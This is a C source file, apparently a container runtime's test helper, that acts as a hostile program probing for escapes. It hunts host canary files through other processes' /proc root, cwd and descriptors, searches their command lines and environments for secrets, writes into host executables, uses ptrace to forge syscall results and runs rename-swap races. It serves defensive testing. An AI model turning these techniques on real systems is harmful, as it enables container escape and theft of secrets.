/* SPDX-License-Identifier: Apache-2.0 */
/* What a hostile program inside does, over and over; a hit is a line of standard output.
 *
 *   attack snoop CANARY TOKEN   looks into every other process that it sees: for a way
 *                               (descriptors, root, working directory) to the host's file CANARY,
 *                               for a procfs whose settings it could write to,
 *                               for TOKEN in command lines, for USRUN_CALLER in environments, for
 *                               capabilities that it has not itself, and for a program of the host
 *                               that can be opened for writing (and is then written to)
 *   attack newborn CANARY       the way to CANARY again, of the youngest processes only, where there
 *                               are those of a whole machine
 *   attack deceive              traces whoever is born in its pid namespace, lets it open a tmpfs
 *                               where it wants another file system, and say what is not so
 *   attack swap A B             exchanges two names for ever */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MAX_FD = 40, MAX_PROGRAMS = 64 };

static int programs[MAX_PROGRAMS];
static size_t n_programs;

static void look_for_canary(const char *place, const char *canary)
{
	char path[512];
	int dir = open(place, O_RDONLY | O_DIRECTORY | O_NONBLOCK | O_CLOEXEC), fd;

	if (dir < 0)
		return;
	(void)snprintf(path, sizeof(path), "../../../../../../../../../..%s", canary);
	fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) /* the host's root itself */
		fd = openat(dir, canary + 1, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		printf("escaped: %s leads to the host\n", place);
		(void)close(fd);
	}
	(void)close(dir);
}

/* Where the container's /proc has files that are read-only or masked, another one must not be in
 * reach. The file is a number of the kernel's, which is not written to. */
static void look_for_procfs(const char *place)
{
	int dir = open(place, O_RDONLY | O_DIRECTORY | O_NONBLOCK | O_CLOEXEC), fd = -1;
	struct statfs fs;

	if (dir >= 0 && fstatfs(dir, &fs) == 0 && fs.f_type == PROC_SUPER_MAGIC)
		fd = openat(dir, "sys/kernel/printk_ratelimit", O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		printf("escaped: %s is a procfs without the masks of ours\n", place);
		(void)close(fd);
	}
	if (dir >= 0)
		(void)close(dir);
}

static void look_for_token(const char *pid, const char *file, const char *token)
{
	char path[320], text[16384];
	size_t len = strlen(token);
	ssize_t n = -1;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, file);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		n = read(fd, text, sizeof(text));
	if (n > 0 && memmem(text, (size_t)n, token, len))
		printf("escaped: %s of %s has the secret\n", file, pid);
	if (fd >= 0)
		(void)close(fd);
}

/* CapPrm of a process, or 0; also of one under a filter, which no container here has: it asks
 * for a procfs, and can do nothing else. */
static unsigned long long rights_of(const char *pid)
{
	char path[320], text[4096], *at;
	ssize_t n = -1;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/status", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		n = read(fd, text, sizeof(text) - 1);
		(void)close(fd);
	}
	text[n > 0 ? n : 0] = '\0';
	at = strstr(text, "CapPrm:");
	return at && !strstr(text, "Seccomp:\t2") ? strtoull(at + 7, NULL, 16) : 0;
}

/* Who may trace it has what it has. */
static void look_for_rights(const char *pid)
{
	unsigned long long more = rights_of(pid) & ~rights_of("self");

	if (more)
		printf("escaped: %s has the rights %llx, which we have not\n", pid, more);
}

static bool is_own(const struct stat *st)
{
	static const char *const names[] = { "/bin/busybox", "/bin/attack" };
	struct stat own;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (stat(names[i], &own) == 0 && own.st_ino == st->st_ino &&
		    own.st_dev == st->st_dev)
			return true;
	return false;
}

static void keep_program(const char *pid)
{
	char path[320];
	struct stat st;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (n_programs == MAX_PROGRAMS || fstat(fd, &st) < 0 || is_own(&st))
		(void)close(fd);
	else
		programs[n_programs++] = fd;
}

/* Refused while somebody runs it: again and again. What is hit may be the machine's: the byte that
 * is there is written. */
static void write_to_programs(void)
{
	char path[320], byte;

	for (size_t i = 0; i < n_programs; i++) {
		int fd;

		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", programs[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (pread(programs[i], &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1)
			printf("escaped: wrote to the program of the host\n");
		(void)close(fd);
	}
}

static void look_at(const char *pid, const char *canary, const char *token)
{
	static const char *const names[] = { "root", "cwd" };
	char path[320];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, names[i]);
		look_for_canary(path, canary);
	}
	for (int fd = 0; fd < MAX_FD; fd++) {
		(void)snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
		look_for_canary(path, canary);
		look_for_procfs(path);
	}
	look_for_token(pid, "cmdline", token);
	look_for_token(pid, "environ", "USRUN_CALLER=");
	look_for_rights(pid);
	keep_program(pid);
}

static void snoop(const char *canary, const char *token)
{
	pid_t self = getpid();

	printf("looking\n");
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc)))
			if (isdigit((unsigned char)*entry->d_name) && atoi(entry->d_name) != self)
				look_at(entry->d_name, canary, token);
		if (proc)
			(void)closedir(proc);
		write_to_programs();
	}
}

static void swap(const char *a, const char *b)
{
	for (;;)
		(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

static bool starts_syscall(pid_t pid, int status, struct __ptrace_syscall_info *info)
{
	return WIFSTOPPED(status) && WSTOPSIG(status) == (SIGTRAP | 0x80) &&
	       ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof(*info), info) > 0 &&
	       info->op == PTRACE_SYSCALL_INFO_ENTRY;
}

/* What it sends, by turns: a process that is none of its own, an error, and too much. */
static void lie(pid_t pid, unsigned long long msg)
{
	static const long words[] = { 1, -5, 0x7fffffff, -1 };
	static size_t turn;
	unsigned long iov = (unsigned long)ptrace(PTRACE_PEEKDATA, pid,
						  msg + offsetof(struct msghdr, msg_iov), NULL);
	unsigned long base = (unsigned long)ptrace(PTRACE_PEEKDATA, pid,
						   iov + offsetof(struct iovec, iov_base), NULL);

	if (++turn % 3 == 0) /* the truth, once in a while: for the other lie */
		return;
	(void)ptrace(PTRACE_POKEDATA, pid, base, words[turn % 4]);
	(void)ptrace(PTRACE_POKEDATA, pid, iov + offsetof(struct iovec, iov_len),
		     turn % 5 ? sizeof(int) : sizeof(long));
	printf("lied\n");
}

/* Whoever asks for a procfs gets a file system of ours to bring home. */
static void mislead(pid_t pid, unsigned long long name)
{
	long word;

	memcpy(&word, "tmpfs\0\0", sizeof(word));
	if (ptrace(PTRACE_POKEDATA, pid, name, word) == 0)
		printf("misled\n");
}

static void go_on(pid_t pid, int status)
{
	struct __ptrace_syscall_info info;

	if (!WIFSTOPPED(status))
		return;
	if (starts_syscall(pid, status, &info) && info.entry.nr == SYS_fsopen)
		mislead(pid, info.entry.args[0]);
	else if (starts_syscall(pid, status, &info) && info.entry.nr == SYS_sendmsg)
		lie(pid, info.entry.args[1]);
	(void)ptrace(PTRACE_SYSCALL, pid, NULL, NULL);
}

/* The number that was given out last in this pid namespace. */
static pid_t last_pid(void)
{
	char text[128] = "", *at;
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);

	if (fd >= 0 && read(fd, text, sizeof(text) - 1) < 0)
		*text = '\0';
	(void)close(fd);
	at = strrchr(text, ' ');
	return at ? atoi(at + 1) : 1;
}

static void newborn(const char *canary)
{
	char path[320];
	pid_t self = getpid(), last;

	printf("looking\n");
	for (;;) {
		last = last_pid();
		for (pid_t pid = last; pid > last - 6; pid--) {
			if (pid == self)
				continue;
			(void)snprintf(path, sizeof(path), "/proc/%d/root", (int)pid);
			look_for_canary(path, canary);
			(void)snprintf(path, sizeof(path), "/proc/%d/cwd", (int)pid);
			look_for_canary(path, canary);
		}
	}
}

static void deceive(void)
{
	pid_t known = last_pid(), pid;
	int status;

	printf("looking\n");
	for (unsigned int i = 0;; i++) {
		for (pid = known + 1; pid < known + 4; pid++)
			if (ptrace(PTRACE_SEIZE, pid, NULL, PTRACE_O_TRACESYSGOOD) == 0) {
				(void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
				known = pid;
			}
		while ((pid = waitpid(-1, &status, WNOHANG | __WALL)) > 0)
			go_on(pid, status);
		if (i % 64 == 0 && last_pid() > known + 3)
			known = last_pid();
	}
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && strcmp(argv[1], "snoop") == 0)
		snoop(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "newborn") == 0)
		newborn(argv[2]);
	if (argc == 2 && strcmp(argv[1], "deceive") == 0)
		deceive();
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		swap(argv[2], argv[3]);
	return 2;
}
